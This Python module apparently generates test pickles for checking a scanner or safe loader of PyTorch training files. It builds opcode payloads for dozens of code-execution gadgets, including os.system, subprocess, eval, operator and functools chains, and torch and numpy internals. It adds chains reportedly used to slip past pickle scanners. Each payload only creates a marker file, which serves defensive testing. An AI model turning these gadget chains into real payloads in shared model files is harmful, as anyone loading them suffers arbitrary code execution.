"""Gadgets: callables that harm when a pickle calls them; here they create a marker file.

The names are those that scanners of pickles list, those that were used to get past them, and more of their kinds.
"""

from __future__ import annotations

import pickle
import pickletools
from itertools import pairwise
from pathlib import Path

from hostile.torchfiles import Raw, call, named


def canaries(path: Path) -> dict[str, Raw]:
    """Opcodes by the name of the first global; each creates `path` when Python loads it."""
    file, shell, code = str(path), f"touch {path}", f"open({str(path)!r}, 'w').close()"
    argv = ["/usr/bin/touch", file]
    compiled = call("builtins.compile", code, "x", "exec")
    inner = pickle.dumps(_Touch(file), 2)
    return {
        # The operating system.
        "os.system": call("os.system", shell),
        "posix.system": call("posix.system", shell),
        "os.popen": call(_attribute(call("os.popen", shell), "read")),
        "os.mkdir": call("os.mkdir", file),
        "posix.mkdir": call("posix.mkdir", file),
        "os.symlink": call("os.symlink", "/", file),
        "os.open": call("os.open", file, 0o101),
        "os.mkfifo": call("os.mkfifo", file),
        "os.spawnv": call("os.spawnv", 0, argv[0], argv),
        "posix.posix_spawn": call("posix.posix_spawn", argv[0], argv, {}),
        "pty.spawn": call("pty.spawn", argv),
        "commands.getoutput": call("commands.getoutput", shell),
        "subprocess.Popen": call("subprocess.Popen", argv),
        "subprocess.run": call("subprocess.run", argv),
        "subprocess.call": call("subprocess.call", argv),
        "subprocess.check_output": call("subprocess.check_output", argv),
        "subprocess.getoutput": call("subprocess.getoutput", shell),
        "asyncio.unix_events._UnixSubprocessTransport._start": call(
            _dotted("asyncio.unix_events", "_UnixSubprocessTransport._start"), {}, argv, False, None, None, None, 0
        ),
        "multiprocessing.util.spawnv_passfds": call("multiprocessing.util.spawnv_passfds", b"/usr/bin/touch", argv, []),
        "threading.Thread": call(_attribute(call("threading.Thread", None, named("os.system"), None, [shell]), "run")),
        # Builtins and functions of the interpreter.
        "builtins.eval": call("builtins.eval", code),
        "__builtin__.eval": call("__builtin__.eval", code),
        "builtins.exec": call("builtins.exec", code),
        "builtins.open": call("builtins.open", file, "w"),
        "builtins.__import__": call(_attribute(call("builtins.__import__", "os"), "system"), shell),
        "builtins.getattr": call(call("builtins.getattr", call("builtins.__import__", "os"), "system"), shell),
        "builtins.map": call(_attribute(call("builtins.map", named("os.system"), [shell]), "__next__")),
        "builtins.filter": call(_attribute(call("builtins.filter", named("os.mkdir"), [file]), "__next__")),
        "types.FunctionType": call(call("types.FunctionType", compiled, {})),
        "atexit.register": _then(call("atexit.register", named("os.system"), shell), call("atexit._run_exitfuncs")),
        # Importing and running modules.
        "importlib.import_module": call(_attribute(call("importlib.import_module", "os"), "system"), shell),
        "importlib.__import__": call(_attribute(call("importlib.__import__", "os"), "system"), shell),
        "runpy._run_code": call("runpy._run_code", compiled, {}),
        "pkgutil.resolve_name": call(call("pkgutil.resolve_name", "os:system"), shell),
        "venv.create": call("venv.create", file),
        "test.support.script_helper.assert_python_ok": call("test.support.script_helper.assert_python_ok", "-c", code),
        # Chains of harmless parts.
        "functools.partial": call(call("functools.partial", named("os.system"), shell)),
        "functools.reduce": call("functools.reduce", named("operator.call"), [named("os.system"), shell]),
        "functools.singledispatch": call(call("functools.singledispatch", named("os.system")), shell),
        "operator.methodcaller": call(
            call("operator.methodcaller", "system", shell), call("builtins.__import__", "os")
        ),
        "operator.attrgetter": call(
            call(call("operator.attrgetter", "system"), call("builtins.__import__", "os")), shell
        ),
        "operator.itemgetter": call(
            call(call("operator.itemgetter", "system"), call("builtins.vars", call("builtins.__import__", "os"))), shell
        ),
        "operator.call": call("operator.call", named("os.system"), shell),
        "_operator.methodcaller": call(
            call("_operator.methodcaller", "system", shell), call("builtins.__import__", "os")
        ),
        "itertools.starmap": call(_attribute(call("itertools.starmap", named("os.system"), [(shell,)]), "__next__")),
        # Debuggers, profilers, the documentation and the console.
        "bdb.Bdb": call(_attribute(call("bdb.Bdb"), "run"), code),
        "profile.run": call("profile.run", code),
        "cProfile.run": call("cProfile.run", code),
        "cProfile.runctx": call("cProfile.runctx", code, {}, {}),
        "timeit.timeit": call("timeit.timeit", code, "pass", named("time.perf_counter"), 1),
        "timeit.main": call("timeit.main", ["-n1", "-r1", code]),
        "trace.Trace": call(_attribute(call("trace.Trace", 0, 0), "run"), code),
        "pydoc.pipepager": call("pydoc.pipepager", "", shell),
        "pydoc.locate": call(call("pydoc.locate", "os.system"), shell),
        "code.InteractiveInterpreter": call(_attribute(call("code.InteractiveInterpreter"), "runsource"), code),
        "idlelib.autocomplete.AutoComplete.get_entity": call(
            _dotted("idlelib.autocomplete", "AutoComplete.get_entity"), None, code
        ),
        # Files, the network, other processes' memory.
        "_io.open": call("_io.open", file, "w"),
        "io.open": call("io.open", file, "w"),
        "_io.FileIO": call("_io.FileIO", file, "w"),
        "codecs.open": call("codecs.open", file, "w"),
        "shutil.copyfile": call("shutil.copyfile", "/dev/null", file),
        "pathlib.Path": call(_attribute(call("pathlib.Path", file), "touch")),
        "pathlib.PosixPath": call(_attribute(call("pathlib.PosixPath", file), "touch")),
        "logging.FileHandler": call("logging.FileHandler", file),
        "logging.config.dictConfig": call(
            "logging.config.dictConfig", {"version": 1, "formatters": {"x": {"()": "os.mkdir", "path": file}}}
        ),
        "sqlite3.connect": call(_attribute(call("sqlite3.connect", file), "execute"), "create table x (y)"),
        "zipfile.ZipFile": call("zipfile.ZipFile", file, "w"),
        "tarfile.open": call("tarfile.open", file, "w"),
        "distutils.file_util.write_file": call("distutils.file_util.write_file", file, []),
        "ctypes.CDLL": call(_attribute(call("ctypes.CDLL", None), "system"), shell.encode()),
        "urllib.request.urlretrieve": call("urllib.request.urlretrieve", "file:///dev/null", file),
        # Pickles in pickles.
        "pickle.loads": call("pickle.loads", inner),
        "_pickle.loads": call("_pickle.loads", inner),
        "yaml.unsafe_load": call("yaml.unsafe_load", f"!!python/object/apply:os.mkdir [{file}]"),
        # Helpers of numpy and torch.
        "numpy.memmap": call("numpy.memmap", file, "uint8", "w+", 0, (1,)),
        "numpy.testing._private.utils.runstring": call("numpy.testing._private.utils.runstring", code, {}),
        "numpy.f2py.crackfortran.getlincoef": call("numpy.f2py.crackfortran.getlincoef", code, {"x": 1}),
        "numpy.f2py.crackfortran._eval_length": call("numpy.f2py.crackfortran._eval_length", code, {}),
        "torch.storage._load_from_bytes": call("torch.storage._load_from_bytes", inner),
        "torch.save": call("torch.save", {}, file),
        "torch.from_file": call("torch.from_file", file, True, 8),
        "torch.jit.unsupported_tensor_ops.execWrapper": call(
            "torch.jit.unsupported_tensor_ops.execWrapper", code, {}, {}
        ),
        "torch.utils.collect_env.run": call("torch.utils.collect_env.run", shell),
        "torch.utils._config_module.ConfigModule.load_config": call(
            _dotted("torch.utils._config_module", "ConfigModule.load_config"), None, inner
        ),
        "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression": call(
            _dotted("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), None, code, []
        ),
        "torch.utils.data.datapipes.utils.decoder.basichandlers": call(
            "torch.utils.data.datapipes.utils.decoder.basichandlers", "pickle", inner
        ),
        "torch._utils._import_dotted_name": call(call("torch._utils._import_dotted_name", "os.system"), shell),
        "torch._tensor._rebuild_from_type_v2": call(
            "torch._tensor._rebuild_from_type_v2", named("os.system"), named("torch.Tensor"), (shell,), {}
        ),
    }


# Names that training states have too. Their gadgets are refused for the next name that they refer to.
LEADS_TO = {
    "pathlib.Path": "builtins.getattr",
    "pathlib.PosixPath": "builtins.getattr",
    "functools.partial": "os.system",
    "torch._tensor._rebuild_from_type_v2": "os.system",
}

# More names, not executed here: other systems, versions and packages; those that need a network or a terminal.
OTHERS = """
    builtins.compile marshal.loads nt.system _posixsubprocess.fork_exec
    __builtin__.execfile __builtin__.file builtins.globals
    builtins.input types.CodeType sys.settrace gc.get_objects signal.signal
    importlib.machinery.SourceFileLoader runpy.run_path runpy.run_module zipimport.zipimporter site.addpackage pip.main
    collections._sys
    concurrent.futures.thread._WorkItem pdb.run pdb.Pdb doctest.debug_script codeop.compile_command cmd.Cmd
    lib2to3.pgen2.grammar.Grammar.loads unittest.main shutil.rmtree tempfile.mkdtemp shelve.open linecache.getline
    ctypes.cdll _ctypes.dlopen socket.create_connection urllib.request.urlopen http.client.HTTPSConnection requests.get
    ssl.get_server_certificate webbrowser.open smtplib.SMTP ftplib.FTP cloudpickle.loads dill.loads joblib.load
    pandas.read_pickle numpy.load numpy.f2py.diagnose.run_command torch.load
    torch.serialization.load torch.jit.load torch.jit.script torch.hub.load torch.hub.load_state_dict_from_url
    torch.classes.load_library torch.ops.load_library torch.utils.bottleneck.__main__.run_cprofile
    torch._dynamo.guards.GuardBuilder.get torch._inductor.codecache.compile_file torch.package.PackageImporter
    torch.utils.cpp_extension.load_inline torch.distributed.rpc.init_rpc torch.multiprocessing.spawn
    torch.multiprocessing.reductions.rebuild_cuda_tensor
    torch._C._from_dlpack builtins.breakpoint cPickle.loads imp.load_source popen2.popen2 thread.start_new_thread
    ensurepip._run_pip _osx_support._read_output _aix_support._read_cmd_output _pyrepl.pager.pipe_pager cgitb.lookup
    getpass.unix_getpass uuid._get_command_stdout platform.popen httplib.HTTPSConnection urllib2.urlopen
    urllib.urlretrieve aiohttp.client.ClientSession xmlrpc.client.ServerProxy imaplib.IMAP4_stream telnetlib.Telnet
    socketserver.TCPServer compileall.compile_dir py_compile.compile numpy.fromfile numpy.savetxt numpy.DataSource
    transformers.AutoModel.from_pretrained
"""

# Names that scanners list, and that training states have as well: placeholders.
HARMLESS = """
    builtins.type builtins.object builtins.print collections.defaultdict collections.abc copyreg._reconstructor
    copy_reg._reconstructor numpy.core.multiarray.scalar torch.nn.Module torch.Tensor torch.FloatTensor
    torch.UntypedStorage torch.storage.TypedStorage torch._utils._rebuild_wrapper_subclass argparse.Namespace
    types.SimpleNamespace functools.partial pathlib.PosixPath datetime.datetime logging.getLogger
    torch._dynamo.eval_frame.OptimizedModule code.models.Net signal.Signals distutils.version.LooseVersion
    uuid.UUID urllib.parse.ParseResult
"""


class _Touch:
    """An object whose pickle is a call that creates a folder."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.mkdir, (self.file,)


def _dotted(module: str, name: str) -> Raw:
    """A global with a dotted name, which only STACK_GLOBAL can look up."""
    texts = b"".join(b"\x8c" + bytes([len(text)]) + text.encode() for text in (module, name))
    return Raw(b"\x80\x04" + texts + b"\x93")


def _attribute(of: Raw, name: str) -> Raw:
    """`getattr` of a value that is built first, so that its global is the first one."""
    # The value into the memo; getattr; the value from the memo.
    return Raw(of.opcodes + b"r\xff\xff\0\0" + b"0" + b"cbuiltins\ngetattr\n(j\xff\xff\0\0" + _text(name) + b"tR")


def renamed(raw: Raw) -> Raw:
    """The same opcodes with `unknown_` before the name of each module."""
    data = raw.opcodes + b"."
    operations = list(pickletools.genops(data))
    chunks: list[bytes] = []
    for (operation, argument, start), (_, _, end) in pairwise(operations):
        chunks.append(data[start:end])
        if operation.name == "GLOBAL":
            module, name = str(argument).split(" ")
            chunks[-1] = f"cunknown_{module}\n{name}\n".encode()
        if operation.name == "STACK_GLOBAL":  # after the module and the name
            module = "unknown_" + chunks[-3][2:].decode()
            chunks[-3] = b"\x8c" + bytes([len(module)]) + module.encode()
    return Raw(b"".join(chunks))


def _then(first: Raw, second: Raw) -> Raw:
    return Raw(first.opcodes + b"0" + second.opcodes)


def _text(text: str) -> bytes:
    return b"X" + len(text).to_bytes(4, "little") + text.encode()
